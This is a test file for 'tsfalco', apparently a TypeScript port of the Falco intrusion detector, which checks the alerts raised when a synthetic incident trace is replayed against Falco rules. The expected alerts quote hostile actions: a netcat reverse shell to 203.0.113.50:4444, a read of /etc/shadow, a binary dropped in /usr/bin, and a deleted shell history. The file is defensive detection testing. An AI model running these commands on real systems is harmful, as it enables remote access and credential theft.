import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ROOT, STACK_LINE, tempDir, tsfalco } from '../helpers/cli.js';
import { writeEvents } from '../helpers/replay.js';
import { writeIncident } from '../helpers/synthetic-incident.js';
import { PPM_O } from '../../src/trace/flags.js';
import { FALCO_RULES, upstreamIt, upstreamPath } from '../helpers/upstream.js';

const tmp = tempDir();
afterAll(tmp.cleanup);
const UPSTREAM = FALCO_RULES.flatMap((f) => ['-r', upstreamPath(f)]);
// A synthetic incident with fixed times and pids, so alerts can be asserted exactly.
const DEMO = writeIncident(tmp.dir);

describe('tsfalco replay', () => {
  upstreamIt('finds the demo incident with Falco\'s upstream rules, as Falco text alerts', FALCO_RULES, () => {
    const r = tsfalco(['replay', DEMO, ...UPSTREAM, '-o', 'rule_matching=all']);
    expect(r.status).toBe(0);
    const lines = r.stdout.trim().split('\n');
    for (const line of lines) expect(line).toMatch(/^\d\d:\d\d:\d\d\.\d{9}: (Emergency|Alert|Critical|Error|Warning|Notice|Informational|Debug) /);
    expect(r.stdout).toMatch(/Warning Sensitive file opened for reading by non-trusted program \| file=\/etc\/shadow .*process=cat .*parent=sudo/);
    expect(r.stdout).toMatch(/Netcat\/Socat runs on host that allows remote code execution .*command=nc -e \/bin\/sh 203\.0\.113\.50 4444/);
    expect(r.stdout).toMatch(/Error File below a known binary directory opened for writing \| file=\/usr\/bin\/kworkerd/);
    expect(r.stdout).toMatch(/Shell history deleted or renamed .*name=\/home\/alice\/\.bash_history/);
    expect(r.stderr).toMatch(/Events: 86 .* alerts: 5/);
    expect(r.stderr).toMatch(/Read sensitive file untrusted\s+│ 1/);
  });

  upstreamIt('writes Falco\'s JSON alert lines', FALCO_RULES, () => {
    const r = tsfalco(['replay', DEMO, ...UPSTREAM, '--json', '-o', 'time_format_iso_8601=true', '-t', 'filesystem', '--no-summary', '-o', 'log_stderr=false'], { env: { FALCO_HOSTNAME: 'ir-box' } });
    expect(r.status).toBe(0);
    const alerts = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
    const shadow = alerts.find((a) => a.rule === 'Read sensitive file untrusted');
    expect(shadow).toMatchObject({ hostname: 'ir-box', priority: 'Warning', source: 'syscall', time: expect.stringMatching(/^2026-11-21T03:14:07\.\d{9}Z$/) });
    expect(shadow.output).toMatch(/^2026-11-21T03:14:07\.\d{9}\+0000: Warning Sensitive file opened/);
    expect(shadow.tags).toContain('filesystem');
    expect(shadow.output_fields).toMatchObject({ 'fd.name': '/etc/shadow', 'proc.name': 'cat', 'proc.pname': 'sudo', 'user.name': 'root', 'user.uid': 0 });
    expect(typeof shadow.output_fields['evt.time.iso8601']).toBe('number');
    expect(r.stderr).toBe('');
  });

  upstreamIt('applies rule_matching first (the default): one alert per event', FALCO_RULES, () => {
    const first = tsfalco(['replay', DEMO, ...UPSTREAM, '--json', '--no-summary']);
    const all = tsfalco(['replay', DEMO, ...UPSTREAM, '--json', '--no-summary', '-o', 'rule_matching=all']);
    const nFirst = first.stdout.trim().split('\n').length;
    const nAll = all.stdout.trim().split('\n').length;
    expect(nAll).toBe(5);
    expect(nFirst).toBe(4); // nc's execve matches two rules; only the first fires
  });

  upstreamIt('selects rules with -D, -T and -o priority', FALCO_RULES, () => {
    const noNetcat = tsfalco(['replay', DEMO, ...UPSTREAM, '--json', '--no-summary', '-o', 'rule_matching=all', '-D', 'Netcat']);
    expect(noNetcat.stdout).not.toContain('Netcat');
    const errorsOnly = tsfalco(['replay', DEMO, ...UPSTREAM, '--json', '--no-summary', '-o', 'priority=error']);
    const rules = errorsOnly.stdout.trim().split('\n').map((l) => JSON.parse(l).rule);
    expect(rules).toEqual(['Write below binary dir']);
  });

  upstreamIt('takes Falco\'s -e and -o engine.replay.capture_file', FALCO_RULES, () => {
    const viaE = tsfalco(['replay', '-e', DEMO, ...UPSTREAM, '--no-summary', '-o', 'priority=error']);
    const viaO = tsfalco(['replay', ...UPSTREAM, '--no-summary', '-o', 'priority=error', '-o', `engine.replay.capture_file=${DEMO}`]);
    expect(viaE.stdout).toMatch(/File below a known binary directory/);
    expect(viaO.stdout).toBe(viaE.stdout);
  });

  upstreamIt('writes alerts to file_output', FALCO_RULES, () => {
    const out = join(tmp.dir, 'alerts.txt');
    const r = tsfalco(['replay', DEMO, ...UPSTREAM, '--no-summary', '-o', 'stdout_output.enabled=false', '-o', 'file_output.enabled=true', '-o', `file_output.filename=${out}`]);
    expect(r.stdout).toBe('');
    expect(readFileSync(out, 'utf8')).toMatch(/Sensitive file opened for reading/);
  });

  upstreamIt('pipes alerts to program_output, once per alert or to one kept-alive program', FALCO_RULES, () => {
    for (const keepAlive of ['false', 'true']) {
      const out = join(tmp.dir, `program-${keepAlive}.txt`);
      const r = tsfalco(['replay', DEMO, ...UPSTREAM, '--no-summary', '-o', 'stdout_output.enabled=false', '-o', 'program_output.enabled=true', '-o', `program_output.keep_alive=${keepAlive}`, '-o', `program_output.program=cat >> ${out}`]);
      expect(r.status).toBe(0);
      expect(r.stdout).toBe('');
      const lines = readFileSync(out, 'utf8').trim().split('\n');
      expect(lines).toHaveLength(4);
      expect(lines[0]).toMatch(/Warning Sensitive file opened for reading/);
    }
  });

  upstreamIt('escapes terminal control characters that come from the trace', FALCO_RULES, () => {
    const trace = writeEvents(tmp.dir, [
      { type: 'openat', dir: '<', tid: 5, pid: 5, comm: 'x\u001b[2Jevil', path: '/etc/shadow', dirfd: -100n, flags: PPM_O.RDONLY, res: 3n, euid: 0 },
    ]);
    const r = tsfalco(['replay', trace, ...UPSTREAM, '--no-summary']);
    expect(r.stdout).toContain('Sensitive file opened');
    expect(r.stdout).not.toContain('\u001b');
    expect(r.stdout).toContain('x\\x1b[2Jevil');
  });

  upstreamIt('--workers replays several traces on several threads with the same output as one worker', FALCO_RULES, () => {
    const other = writeEvents(tmp.dir, [
      { type: 'openat', dir: '<', tid: 9, pid: 9, comm: 'tail', path: '/etc/shadow', dirfd: -100n, flags: PPM_O.RDONLY, res: 3n, euid: 0 },
    ]);
    const args = ['replay', DEMO, other, DEMO, ...UPSTREAM, '--json', '-o', 'rule_matching=all'];
    const one = tsfalco(args);
    const two = tsfalco([...args, '--workers', '2']);
    expect(one.status).toBe(0);
    expect(two.status).toBe(0);
    expect(two.stdout).toBe(one.stdout);
    const rules = one.stdout.trim().split('\n').map((l) => JSON.parse(l).output_fields['proc.name']);
    expect(rules.filter((n: string) => n === 'tail')).toHaveLength(1);
    expect(one.stdout.trim().split('\n')).toHaveLength(11);
    expect(two.stderr).toMatch(/alerts: 11/);
  });

  it('--filter prints matching events sysdig-style instead of alerts', () => {
    const r = tsfalco(['replay', DEMO, '--filter', 'evt.type=connect and proc.name=nc']);
    expect(r.status).toBe(0);
    expect(r.stdout.trim().split('\n')).toHaveLength(1);
    expect(r.stdout).toMatch(/^\d+ \d\d:\d\d:\d\d\.\d{9} \d nc \(2310\) < connect res=0 tuple=10\.0\.0\.5:40112->203\.0\.113\.50:4444/);
    // -p with --filter: the line's format, as sysdig -r -p (missing values skip the event unless *)
    const p = tsfalco(['replay', DEMO, '--filter', 'evt.type=connect and proc.name=nc', '-p', '%proc.name %evt.type %fd.name %evt.arg.fd %evt.res']);
    expect(p.stdout).toBe('nc connect 10.0.0.5:40112->203.0.113.50:4444 <4t>10.0.0.5:40112->203.0.113.50:4444 SUCCESS\n');
    const skipped = tsfalco(['replay', DEMO, '--filter', 'evt.type=connect and proc.name=nc', '-p', '%proc.name %evt.arg.data']);
    expect(skipped.stdout).toBe('');
    const starred = tsfalco(['replay', DEMO, '--filter', 'evt.type=connect and proc.name=nc', '-p', '*%proc.name %evt.arg.data']);
    expect(starred.stdout).toBe('nc <NA>\n');
    const bad = tsfalco(['replay', DEMO, '--filter', 'evt.type=connect and']);
    expect(bad.status).toBe(1);
    expect(bad.stderr).toMatch(/^tsfalco: --filter: /);
  });

  upstreamIt('-p with rules keeps Falco\'s meaning: text appended to every rule\'s output', FALCO_RULES, () => {
    const appended = tsfalco(['replay', DEMO, ...UPSTREAM, '-p', 'extra=%proc.pid', '--no-summary', '-o', 'log_stderr=false']);
    expect(appended.stdout).toMatch(/Sensitive file opened for reading .* extra=\d+\n/);
  });

  it('bad input: a missing trace or a broken rules file gives one line and exit 1', () => {
    const missing = tsfalco(['replay', join(tmp.dir, 'nope.arrow'), '-r', join(ROOT, 'rules/tsfalco_rules.yaml')]);
    expect(missing.status).toBe(1);
    expect(missing.stderr).toMatch(/nope\.arrow: no such file/);
    expect(missing.stderr).not.toMatch(STACK_LINE);
    const bad = join(tmp.dir, 'bad.yaml');
    writeFileSync(bad, '- rule: x\n  condition: evt.type=open and\n  output: y\n  desc: z\n  priority: WARNING\n');
    const r = tsfalco(['replay', DEMO, '-r', bad]);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/bad\.yaml/);
    expect(r.stderr).not.toMatch(STACK_LINE);
  });
});
